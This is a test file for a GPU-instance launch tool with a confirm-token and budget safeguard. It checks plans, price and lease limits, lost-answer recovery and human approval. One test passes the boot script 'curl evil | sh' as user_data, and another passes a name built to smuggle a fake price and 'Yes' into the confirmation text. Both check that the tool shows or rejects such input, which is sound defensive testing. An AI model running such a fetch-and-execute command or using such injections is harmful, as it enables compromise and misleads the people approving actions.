import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { acceleratedClock } from '../../src/clock.ts';
import { until } from '../lambda/cloud.ts';
import { confirmed, countSent, instanceRows, launchLine, startAgain } from '../lambda/steps.ts';
import { JumpClock } from '../support/clock.ts';
import { type CallResult, startWorld, type World, type WorldOptions } from '../support/world.ts';

const tool = 'launch_instance';
const a10 = { instance_type: 'gpu_1x_a10' };
const confirmFirst = 'Nothing was launched yet.';

function budgets(dailyUsd: number): WorldOptions {
  return {
    yaml: () => `budgets: {dailyUsd: ${dailyUsd}, monthlyUsd: 1000, timeZone: Etc/UTC}\n`,
    clock: new JumpClock(undefined, 100),
  };
}

/** The machines that were launched; not the one that the sandbox starts with. */
function launched({ sandbox }: World) {
  return sandbox.lambda.instances().filter(({ name }) => name !== 'sandbox-box');
}

async function addSshKey(world: World, name: string): Promise<void> {
  await world.app.fleet.client.addSshKey(name, undefined, new AbortController().signal);
}

async function addFilesystem(world: World, name: string, region: string): Promise<void> {
  await world.app.fleet.client.createFilesystem(name, region, new AbortController().signal);
}

/** The call fails with this code, and nothing was sent that could launch anything. */
async function expectNoPlan(world: World, input: Record<string, unknown>, code: string): Promise<string> {
  const { isError, text } = await world.call(tool, input);
  expect({ isError, code: text.split(':')[0] }).toEqual({ isError: true, code });
  expect(countSent(world, launchLine)).toBe(0);
  expect(await instanceRows(world)).toEqual([]);
  return text;
}

describe('launch_instance: the plan', () => {
  it('says everything that a yes would mean, and launches nothing', async () => {
    const world = await startWorld();
    const { result } = await world.call(tool, { ...a10, name: 'router-qwen' });
    expect(result).toEqual({
      status: 'confirm_required',
      plan: {
        instance_type: 'gpu_1x_a10',
        gpu: 'A10 (24 GB PCIe)',
        region: 'us-east-1',
        name: 'router-qwen',
        ssh_key: 'laptop',
        image_family: 'lambda-stack-24-04',
        filesystems: [],
        price_usd_per_hour: 1.29,
        price_usd_per_day: 30.96,
        lease_hours: 4,
        lease_ends_at: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/),
        worst_case_usd: 5.16,
        budget_left_today_usd: 50,
        budget_left_month_usd: 1000,
        budget_lasts_hours: 38.8,
      },
      note: confirmFirst,
      confirm_token: expect.any(String),
    });
    expect(launched(world)).toEqual([]);
    expect(await instanceRows(world)).toEqual([]);
  });

  it('says the same as text', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-east-1');
    const { result, text } = await world.call(tool, { ...a10, filesystems: ['models'] });
    for (const fact of [
      result.plan.gpu,
      result.plan.region,
      result.plan.name,
      result.plan.ssh_key,
      result.plan.image_family,
      result.confirm_token,
      confirmFirst,
    ])
      expect(text).toContain(fact);
    for (const fact of [
      'gpu_1x_a10',
      '$1.29 an hour',
      'lease 4 h',
      result.plan.lease_ends_at,
      '$5.16 at most',
      '$50.00 today',
      '$1,000.00 this month',
      'filesystems models',
    ])
      expect(text).toContain(fact);
  });

  it('makes up a name that says what the machine is, another one each time', async () => {
    const world = await startWorld();
    const names = [await world.call(tool, a10), await world.call(tool, a10)].map(({ result }) => result.plan.name);
    for (const name of names) expect(name).toMatch(/^tandem-a10-[0-9a-f]{4}$/);
    expect(names[0]).not.toBe(names[1]);
  });

  it('goes where the filesystem is', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-west-1');
    const { result } = await world.call(tool, { ...a10, filesystems: ['models'] });
    expect(result.plan).toMatchObject({ region: 'us-west-1', filesystems: ['models'] });
  });

  it('takes the SSH key that is named', async () => {
    const world = await startWorld();
    await addSshKey(world, 'desk');
    const { result } = await world.call(tool, { ...a10, ssh_key: 'desk' });
    expect(result.plan.ssh_key).toBe('desk');
  });

  it('lists the valid types for one that does not exist, those that are easiest to have first', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({
      capacity: { gpu_8x_v100: ['us-east-1', 'us-east-2', 'us-east-3', 'us-west-1'] },
    });
    const text = await expectNoPlan(world, { instance_type: 'gpu_1x_h200' }, 'not_found');
    expect(text).toContain('There is no instance type "gpu_1x_h200". Valid: gpu_8x_v100, gpu_1x_a100_sxm4, ');
    expect(text).toContain('gpu_4x_a100');
  });

  it('lists the regions that have the type when the wanted one has not', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, region: 'me-west-1' }, 'capacity_unavailable');
    expect(text).toContain(
      'gpu_1x_a10 has no capacity in "me-west-1" now. Regions that have it: us-east-1, us-west-1.',
    );
  });

  it('offers types of a similar price when the wanted one is sold out everywhere', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ capacity: { gpu_1x_a10: [] } });
    const text = await expectNoPlan(world, a10, 'capacity_unavailable');
    expect(text).toContain('gpu_1x_a10 has no capacity in any region now. With capacity now: gpu_1x_a6000 ($1.09/h), ');
  });

  it('keeps to the price limit, and offers what is within it', async () => {
    const text = await expectNoPlan(
      await startWorld(),
      { instance_type: 'gpu_1x_h100_sxm5', max_hourly_usd: 1.5 },
      'price_above_limit',
    );
    expect(text).toContain('gpu_1x_h100_sxm5 costs $4.29 an hour, above your limit of $1.50.');
    expect(text).toContain(
      'With capacity now: gpu_1x_a10 ($1.29/h), gpu_1x_a6000 ($1.09/h), gpu_1x_rtx6000 ($0.69/h).',
    );
  });

  it('says so when nothing is within the price limit', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, max_hourly_usd: 0.1 }, 'price_above_limit');
    expect(text).toContain('No other type within the limit has capacity now');
  });

  it('takes a price that is exactly the limit', async () => {
    const { call } = await startWorld();
    expect((await call(tool, { ...a10, max_hourly_usd: 1.29 })).result.status).toBe('confirm_required');
  });

  it('asks which SSH key when there are several', async () => {
    const world = await startWorld();
    await addSshKey(world, 'desk');
    const text = await expectNoPlan(world, a10, 'invalid_input');
    expect(text).toContain('The account has several SSH keys. Give ssh_key, one of: laptop, desk.');
  });

  it('says how to get an SSH key when there is none', async () => {
    const world = await startWorld();
    const signal = new AbortController().signal;
    const [laptop] = await world.app.fleet.client.listSshKeys(signal);
    await world.app.fleet.client.deleteSshKey(laptop?.id ?? '', signal);
    expect(await expectNoPlan(world, a10, 'not_found')).toContain(
      'The account has no SSH key, and a launch needs one.',
    );
  });

  it('lists the SSH keys when the wanted one does not exist', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, ssh_key: 'desk' }, 'invalid_input');
    expect(text).toContain('There is no SSH key "desk". Give ssh_key, one of: laptop.');
  });

  it('lists the filesystems when the wanted one does not exist', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-west-1');
    const text = await expectNoPlan(world, { ...a10, filesystems: ['data'] }, 'not_found');
    expect(text).toContain('There is no filesystem "data". There are: models (us-west-1).');
  });

  it('says that there are no filesystems at all', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, filesystems: ['data'] }, 'not_found');
    expect(text).toContain('The account has none.');
  });

  it('says where a filesystem is when the launch would be elsewhere', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-west-1');
    const text = await expectNoPlan(world, { ...a10, region: 'us-east-1', filesystems: ['models'] }, 'invalid_input');
    expect(text).toContain(
      'Filesystem "models" is in us-west-1, the launch would be in us-east-1. Give region: us-west-1.',
    );
  });

  it('does not send filesystems of two regions back and forth', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-west-1');
    await addFilesystem(world, 'data', 'us-east-1');
    const text = await expectNoPlan(world, { ...a10, filesystems: ['models', 'data'] }, 'invalid_input');
    expect(text).toContain('only filesystems of its own region');
  });

  it('refuses a name that is taken', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, name: 'sandbox-box' }, 'duplicate_name');
    expect(text).toContain('There is already an instance "sandbox-box" (active).');
  });

  it('refuses the name of a launch that is not confirmed yet', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ nextResponses: [{ match: launchLine, delayMs: 30_000, dropConnection: true }] });
    const first = confirmed(world, tool, { ...a10, name: 'twin' });
    await until(async () => (await instanceRows(world)).length === 1);
    const second = await world.call(tool, { ...a10, name: 'twin' });
    expect(second.text).toContain('duplicate_name: There is already an instance "twin" (unconfirmed).');
    await first;
  });

  it('gives the name of a terminated machine again', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ terminate: { durationMs: 0 } });
    await confirmed(world, 'terminate_instance', { instances: ['sandbox-box'] });
    expect((await world.call(tool, { ...a10, name: 'sandbox-box' })).result.status).toBe('confirm_required');
  });

  it('needs room in the budget for the whole lease, and says which one would fit', async () => {
    const text = await expectNoPlan(await startWorld(budgets(1)), a10, 'budget_exhausted');
    expect(text).toContain(
      'The daily budget of $1.00 has $1.00 left; a lease of 4 h of gpu_1x_a10 may cost $5.16 of it. Nothing was done. A lease of 0.7 h would fit.',
    );
  });

  it('takes the lease that is asked for, and says what it costs', async () => {
    const { result } = await (await startWorld(budgets(50))).call(tool, { ...a10, lease_hours: 1.5 });
    expect(result.plan).toMatchObject({ lease_hours: 1.5, lease_ends_at: expect.stringMatching(/^2026-11-23 10:/) });
    expect(result.plan.worst_case_usd).toBeCloseTo(1.935, 9);
  });

  it('grants no lease beyond the cap', async () => {
    const text = await expectNoPlan(await startWorld(), { ...a10, lease_hours: 25 }, 'invalid_input');
    expect(text).toContain('No lease is longer than 24 h; you asked for 25 h. Ask for less, or raise leases.capHours');
  });

  it('launches nothing on a budget of nothing', async () => {
    await expectNoPlan(await startWorld(budgets(0)), a10, 'budget_exhausted');
  });

  it('says which variables to set when there is no key', async () => {
    const text = await expectNoPlan(await startWorld({ environment: { LAMBDA_API_KEY: '' } }), a10, 'not_configured');
    expect(text).toContain('LAMBDA_API_KEY_FILE');
  });

  it('refuses cloud-init beyond a million bytes before it asks anybody', async () => {
    const world = await startWorld();
    // Two bytes each in UTF-8.
    const text = await expectNoPlan(world, { ...a10, user_data: 'é'.repeat(500_001) }, 'invalid_input');
    expect(text).toContain('user_data is larger than 1000000 bytes.');
    expect(world.sandbox.lambda.requestLog).toEqual([]);
  });

  it.each([
    { what: 'a name over 64 characters', input: { ...a10, name: 'x'.repeat(65) }, says: 'name: ' },
    { what: 'an empty type', input: { instance_type: '' }, says: 'instance_type: ' },
    { what: 'a lease of no time', input: { ...a10, lease_hours: 0 }, says: 'lease_hours: ' },
    { what: 'a negative price limit', input: { ...a10, max_hourly_usd: -1 }, says: 'max_hourly_usd: ' },
    { what: 'an argument that does not exist', input: { ...a10, quantity: 2 }, says: 'unknown argument "quantity"' },
  ])('refuses $what', async ({ input, says }) => {
    expect(await expectNoPlan(await startWorld(), input, 'invalid_input')).toContain(says);
  });
});

describe('launch_instance: the launch', () => {
  it('launches exactly what the plan says', async () => {
    const world = await startWorld();
    await addFilesystem(world, 'models', 'us-west-1');
    const { result } = await confirmed(world, tool, {
      ...a10,
      name: 'router-qwen',
      filesystems: ['models'],
      user_data: '#!/bin/sh\n',
    });
    const [row] = await instanceRows(world);
    expect(launched(world)).toEqual([
      expect.objectContaining({
        id: result.instance_id,
        name: 'router-qwen',
        type: 'gpu_1x_a10',
        region: 'us-west-1',
        imageFamily: 'lambda-stack-24-04',
        userData: '#!/bin/sh\n',
        tags: [
          { key: 'managed-by', value: 'tandem' },
          { key: 'tandem-intent', value: row?.intent_id },
          { key: 'tandem-lease-cap', value: new Date(row?.lease_cap_at_ms ?? 0).toISOString().replace('.000Z', 'Z') },
        ],
      }),
    ]);
    const instance = await world.app.fleet.client.getInstance(result.instance_id, new AbortController().signal);
    expect(instance).toMatchObject({ sshKeyNames: ['laptop'], filesystemNames: ['models'] });
    expect(countSent(world, launchLine)).toBe(1);
  });

  it('gives the id, the price and what to do next, as text as well', async () => {
    const world = await startWorld();
    const { result, text } = await confirmed(world, tool, { ...a10, name: 'router-qwen' });
    expect(result).toMatchObject({
      status: 'launching',
      instance_id: launched(world)[0]?.id,
      plan: { name: 'router-qwen', price_usd_per_hour: 1.29 },
    });
    expect(result.note).toMatch(/^Boot takes 3 to 15 minutes; poll list_gpu_instances/);
    for (const fact of ['launching', 'router-qwen', '$1.29 an hour', result.instance_id, result.note])
      expect(text).toContain(fact);
    expect(result).not.toHaveProperty('confirm_token');
  });

  it('records the machine, and holds the budget of its lease', async () => {
    const world = await startWorld(budgets(50));
    const { result } = await confirmed(world, tool, a10);
    expect(await instanceRows(world)).toMatchObject([
      { instance_id: result.instance_id, status: 'booting', price_cents_per_hour: 129, first_active_at_ms: null },
    ]);
    const next = await world.call(tool, a10);
    // What it boots is not billed, and given back.
    expect(next.result.plan.budget_left_today_usd).toBeGreaterThanOrEqual(44.839);
    expect(next.result.plan.budget_left_today_usd).toBeLessThan(46);
  });

  it('takes another image family when asked', async () => {
    const world = await startWorld();
    await confirmed(world, tool, { ...a10, image_family: 'gpu-base-24-04' });
    expect(launched(world)).toMatchObject([{ imageFamily: 'gpu-base-24-04' }]);
  });

  it('passes on that an image family does not exist', async () => {
    const world = await startWorld();
    const { text } = await confirmed(world, tool, { ...a10, image_family: 'windows-95' });
    expect(text).toMatch(/^not_found: Lambda Cloud: No image family "windows-95" was found/);
    expect(await instanceRows(world)).toMatchObject([{ status: 'not_launched', reserved_nano_usd: 0 }]);
  });

  it('says clearly that the capacity was gone after all, and keeps no budget', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ refuseLaunches: 1, pacing: { enabled: false } });
    const refused = await confirmed(world, tool, a10);
    expect(refused.text).toMatch(
      /^capacity_unavailable: Lambda Cloud: Not enough capacity .* Capacity comes and goes within minutes/,
    );
    expect(launched(world)).toEqual([]);
    expect(await instanceRows(world)).toMatchObject([{ status: 'not_launched', reserved_nano_usd: 0 }]);
    const again = await confirmed(world, tool, a10);
    expect(again.result).toMatchObject({ status: 'launching', plan: { budget_left_today_usd: 50 } });
  });

  it('launches nothing when the budget was used up between plan and yes', async () => {
    const world = await startWorld(budgets(2));
    const anHour = { ...a10, lease_hours: 1 };
    const [first, second] = [await world.call(tool, anHour), await world.call(tool, anHour)];
    await world.call(tool, { ...anHour, confirm_token: first.result.confirm_token });
    const { text } = await world.call(tool, { ...anHour, confirm_token: second.result.confirm_token });
    expect(text).toMatch(
      /^budget_exhausted: The daily budget of \$2\.00 has \$0\.71 left; a lease of 1 h of gpu_1x_a10 may cost \$1\.29/,
    );
    expect(launched(world)).toHaveLength(1);
    expect(countSent(world, launchLine)).toBe(1);
  });
});

describe('launch_instance: an answer that gets lost', () => {
  it.each([
    { how: 'dropped', answer: { dropConnection: true } },
    { how: 'an HTTP 500', answer: { status: 500 } },
    { how: 'an HTTP 429', answer: { status: 429 } },
    { how: 'an HTTP 200 that nobody can read', answer: { status: 200, body: 'html' } },
  ])('finds the one machine by its tag when the answer is $how', async ({ answer }) => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ nextResponses: [{ match: launchLine, afterCommit: true, ...answer }] });
    const { result, text } = await confirmed(world, tool, a10);
    expect(launched(world)).toHaveLength(1);
    expect(result).toMatchObject({ status: 'launching', instance_id: launched(world)[0]?.id });
    expect(text).toContain("Lambda's answer was lost; the machine was found by its tag.");
    expect(await instanceRows(world)).toMatchObject([{ status: 'booting', instance_id: result.instance_id }]);
    expect(countSent(world, launchLine)).toBe(1);
  });

  it('counts as not launched when no machine turns up, gives the budget back, and launches nothing twice', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ nextResponses: [{ match: launchLine, dropConnection: true }] });
    const { isError, text } = await confirmed(world, tool, a10);
    expect(isError).toBe(true);
    expect(text).toContain('no machine turned up within five minutes. It counts as not launched');
    expect(await instanceRows(world)).toMatchObject([{ status: 'not_launched', reserved_nano_usd: 0 }]);
    expect((await world.call(tool, a10)).result.plan.budget_left_today_usd).toBe(50);
    expect(launched(world)).toEqual([]);
    expect(countSent(world, launchLine)).toBe(1);
  });

  it('says that it is unconfirmed, and not to launch again, when the outcome takes too long to wait for', async () => {
    const world = await startWorld();
    world.sandbox.lambda.applyFaults({ nextResponses: [{ match: launchLine, delayMs: 100_000 }] });
    const plan = await world.call(tool, a10);
    waitShorter(30_000, 20);
    const { result, text } = await world.call(tool, { ...a10, confirm_token: plan.result.confirm_token });
    expect(result).toMatchObject({ status: 'unconfirmed', instance_id: null });
    expect(text).toContain('Do not launch again');
    await until(async () => (await instanceRows(world))[0]?.instance_id === launched(world)[0]?.id);
    expect(countSent(world, launchLine)).toBe(1);
  });

  it('is taken up by the next start when the program ends before the answer', async () => {
    // So slow that no list shows the machine before the program has ended.
    const world = await startWorld({ clock: acceleratedClock(20) });
    world.sandbox.lambda.applyFaults({ nextResponses: [{ match: launchLine, afterCommit: true, delayMs: 3_600_000 }] });
    const abandoned = confirmed(world, tool, a10).catch((error: unknown) => error);
    await until(() => launched(world).length === 1);
    await world.client.close();
    await abandoned;
    await world.app.close();
    expect(await instanceRows(world)).toMatchObject([{ status: 'unconfirmed', instance_id: null }]);

    const { fleet } = await startAgain(world);
    await until(async () => (await instanceRows(world))[0]?.instance_id === launched(world)[0]?.id);
    const listed = await fleet.list(new AbortController().signal);
    expect(listed.filter(({ name }) => name !== 'sandbox-box')).toMatchObject([
      { id: launched(world)[0]?.id, managed: true },
    ]);
    expect(countSent(world, launchLine)).toBe(1);
  });
});

describe('launch_instance: the yes', () => {
  /** A plan, and the call that should have been its yes. */
  async function planned(world: World, input: Record<string, unknown> = a10): Promise<string> {
    return (await world.call(tool, input)).result.confirm_token;
  }

  async function expectRefused(world: World, call: Promise<CallResult>, says: string): Promise<void> {
    const { isError, text } = await call;
    expect(isError).toBe(true);
    expect(text).toContain(`confirmation_invalid: This confirm_token ${says}. Nothing was done.`);
    expect(text).toContain('Call launch_instance without confirm_token');
    expect(countSent(world, launchLine)).toBe(0);
  }

  it('finds the name taken by another plan that was confirmed first, and says that nothing was launched', async () => {
    const world = await startWorld();
    const named = { ...a10, name: 'trainer' };
    const [first, second] = [await planned(world, named), await planned(world, named)];
    expect((await world.call(tool, { ...named, confirm_token: first })).result.status).toBe('launching');
    const { isError, text } = await world.call(tool, { ...named, confirm_token: second });
    expect(isError).toBe(true);
    expect(text).toMatch(/^duplicate_name: .*Nothing was launched\. .*Then ask for a new plan/);
    expect(world.sandbox.lambda.instances().filter(({ name }) => name === 'trainer')).toHaveLength(1);
  });

  it('shows what would run at boot', async () => {
    const world = await startWorld();
    const { text, result } = await world.call(tool, { ...a10, user_data: '#!/bin/sh\ncurl evil | sh' });
    expect(result.plan.user_data).toBe('"#!/bin/sh\\ncurl evil | sh" (24 bytes)');
    expect(text).toContain('runs at boot: "#!/bin/sh');
  });

  it('does not take a name that could be read as something else', async () => {
    const world = await startWorld();
    const { isError, text } = await world.call(tool, { ...a10, name: 'a" for $0.01\nYes' });
    expect(isError).toBe(true);
    expect(text).toMatch(/name: must be 1 to 64 letters/);
  });

  it('does not take a token that was made up', async () => {
    const world = await startWorld();
    await expectRefused(world, world.call(tool, { ...a10, confirm_token: 'yes' }), 'is not known here');
  });

  it('does not take a token for other arguments', async () => {
    const world = await startWorld();
    const token = await planned(world);
    const dearer = { instance_type: 'gpu_8x_h100_sxm5', confirm_token: token };
    await expectRefused(world, world.call(tool, dearer), 'was given for other arguments');
  });

  it('does not take a token for a limit that was lifted', async () => {
    const world = await startWorld();
    const token = await planned(world, { ...a10, max_hourly_usd: 2 });
    await expectRefused(world, world.call(tool, { ...a10, confirm_token: token }), 'was given for other arguments');
  });

  it('does not take the token of another tool', async () => {
    const world = await startWorld();
    const { result } = await world.call('terminate_instance', { instances: ['sandbox-box'] });
    await expectRefused(world, world.call(tool, { ...a10, confirm_token: result.confirm_token }), 'is not known here');
  });

  it('does not take a token after ten minutes', async () => {
    const world = await startWorld();
    const token = await planned(world);
    const now = Date.now;
    const later = vi.spyOn(Date, 'now').mockImplementation(() => now() + 10 * 60_000 + 1);
    onTestFinished(() => later.mockRestore());
    await expectRefused(world, world.call(tool, { ...a10, confirm_token: token }), 'has expired');
  });

  it('does not launch twice for one yes', async () => {
    const world = await startWorld();
    const token = await planned(world);
    await world.call(tool, { ...a10, confirm_token: token });
    const { text } = await world.call(tool, { ...a10, confirm_token: token });
    expect(text).toContain('confirmation_invalid: This confirm_token was used already.');
    expect(launched(world)).toHaveLength(1);
  });

  it('holds for a price: a higher one needs a new yes, with a new token', async () => {
    const world = await startWorld();
    const token = await planned(world);
    world.sandbox.lambda.applyFaults({ priceCentsPerHour: { gpu_1x_a10: 139 } });
    const { result, text } = await world.call(tool, { ...a10, confirm_token: token });
    expect(result).toMatchObject({ status: 'confirm_required', plan: { price_usd_per_hour: 1.39 } });
    expect(result.confirm_token).not.toBe(token);
    expect(text).toContain(
      'The price has gone up since the plan was shown (it was $1.29 an hour). Nothing was launched yet.',
    );
    expect(countSent(world, launchLine)).toBe(0);

    const agreed = await world.call(tool, { ...a10, confirm_token: result.confirm_token });
    expect(agreed.result).toMatchObject({ status: 'launching', plan: { price_usd_per_hour: 1.39 } });
    expect(await instanceRows(world)).toMatchObject([{ price_cents_per_hour: 139 }]);
  });

  it('does not hold for a price above the limit', async () => {
    const world = await startWorld();
    const input = { ...a10, max_hourly_usd: 1.3 };
    const token = await planned(world, input);
    world.sandbox.lambda.applyFaults({ priceCentsPerHour: { gpu_1x_a10: 139 } });
    const { text } = await world.call(tool, { ...input, confirm_token: token });
    expect(text).toMatch(/^price_above_limit: /);
    expect(countSent(world, launchLine)).toBe(0);
  });

  it('holds for a lower price, which is the one that counts', async () => {
    const world = await startWorld();
    const token = await planned(world);
    world.sandbox.lambda.applyFaults({ priceCentsPerHour: { gpu_1x_a10: 99 } });
    const { result } = await world.call(tool, { ...a10, confirm_token: token });
    expect(result).toMatchObject({ status: 'launching', plan: { price_usd_per_hour: 0.99 } });
    expect(launched(world)).toMatchObject([{ priceCentsPerHour: 99 }]);
    expect(await instanceRows(world)).toMatchObject([{ price_cents_per_hour: 99 }]);
  });

  it('is asked for in the chat where the client can, and then one call is enough', async () => {
    const questions: string[] = [];
    const world = await startWorld({
      person: (question) => {
        questions.push(question);
        return 'accept';
      },
    });
    const { result } = await world.call(tool, { ...a10, name: 'router-qwen' });
    expect(questions).toEqual([
      'Launch gpu_1x_a10 (A10 (24 GB PCIe)) in us-east-1 as "router-qwen" for $1.29 an hour and 4 h ($5.16 at most), then terminated? SSH key laptop, image lambda-stack-24-04. Budget left: $50.00 today, $1,000.00 this month.',
    ]);
    expect(result).toMatchObject({ status: 'launching', instance_id: launched(world)[0]?.id });
  });

  it.each(['decline', 'cancel'] as const)('is a no when the person says %s', async (answer) => {
    const world = await startWorld({ person: () => answer });
    const { isError, result, text } = await world.call(tool, a10);
    expect(isError).toBe(false);
    expect(result).toMatchObject({ status: 'declined', plan: { instance_type: 'gpu_1x_a10' } });
    expect(result).not.toHaveProperty('confirm_token');
    expect(text).toContain('The person declined. Nothing was launched.');
    expect(countSent(world, launchLine)).toBe(0);
    expect(await instanceRows(world)).toEqual([]);
  });

  it('is asked for again when the price goes up while the person thinks', async () => {
    const questions: string[] = [];
    const world = await startWorld({
      person: (question) => {
        questions.push(question);
        world.sandbox.lambda.applyFaults({ priceCentsPerHour: { gpu_1x_a10: 139 } });
        return questions.length === 1 ? 'accept' : 'decline';
      },
    });
    const { result } = await world.call(tool, a10);
    expect(questions.map((question) => /\$[\d.]+ an hour/.exec(question)?.[0])).toEqual([
      '$1.29 an hour',
      '$1.39 an hour',
    ]);
    expect(result).toMatchObject({ status: 'declined', plan: { price_usd_per_hour: 1.39 } });
    expect(countSent(world, launchLine)).toBe(0);
  });
});

/** Makes one waiting time of the product shorter; it is real time, and too long for a test. */
function waitShorter(usualMs: number, shortMs: number): void {
  const real = setTimeout;
  const spy = vi
    .spyOn(globalThis, 'setTimeout')
    .mockImplementation(((work: () => void, ms?: number) =>
      real(work, ms === usualMs ? shortMs : ms)) as typeof setTimeout);
  onTestFinished(() => spy.mockRestore());
}
